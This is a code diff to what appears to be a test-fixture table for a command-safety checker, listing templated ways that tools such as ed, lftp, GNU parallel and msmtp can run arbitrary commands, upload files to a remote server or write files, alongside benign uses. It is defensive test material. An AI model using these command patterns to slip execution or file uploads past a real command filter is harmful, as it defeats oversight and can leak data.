@@ -93,9 +93,9 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
     benign: ["{P} README.md", "{P} -c 'set ff=unix' -c 'wq' src/main.ts", "{P} +10 src/main.ts"],
   }),
   same(["ed", "red"], {
-    runs: ["{P} -s notes.txt <<< '!{CMD}'", "echo 'w !{CMD}' | {P} notes.txt"],
+    runs: ["{P} -s notes.txt <<< '!{CMD}'", "echo 'w !{CMD}' | {P} notes.txt", "printf '!{CMD}\\n' > fix.ed && {P} -s notes.txt < fix.ed"],
     reads: ["{P} {READ}"],
-    writes: ["{P} -s notes.txt <<< 'w {WRITE}'"],
+    writes: ["{P} -s notes.txt <<< 'w {WRITE}'", "printf 'w {WRITE}\\n' > fix.ed && {P} -s notes.txt < fix.ed"],
     benign: ["{P} -s notes.txt <<< ',p'"],
   }),
   same(["nim"], {
@@ -360,11 +360,12 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
     writes: ["echo 'get notes.txt {WRITE}' | {P} host"],
     benign: ["echo 'ls' | {P} host", "{P} host"],
   }),
+  same(["parallel"], { launches: ["{P} -a {PROG}", "{P} -j2 :::: {PROG}"], benign: ["{P} -a urls.txt wget -q", "{P} gzip ::: a.csv b.csv"] }),
   same(["lftp"], {
     runs: ["{P} -c '!{CMD}'", "{P} -e '!{CMD}; exit' ftp.example.com"],
     writes: ["{P} -c 'open ftp.example.com; get notes.txt -o {WRITE}'"],
-    reads: ["{P} -c 'open ftp.example.com; put {READ}'"],
-    benign: ["{P} -c 'open ftp.example.com; ls'"],
+    reads: ["{P} -c 'open ftp.example.com; put {READ}'", "{P} -c 'open sftp://ftp.example.com; mirror -R {READ} /in'"],
+    benign: ["{P} -c 'open ftp.example.com; ls'", "{P} -c 'open ftp.example.com; mirror /pub/docs vendor/docs; bye'"],
   }),
   same(["msmtp", "mpop"], {
     runs: ["{P} -a work --passwordeval '{CMD}' bob@example.org"],
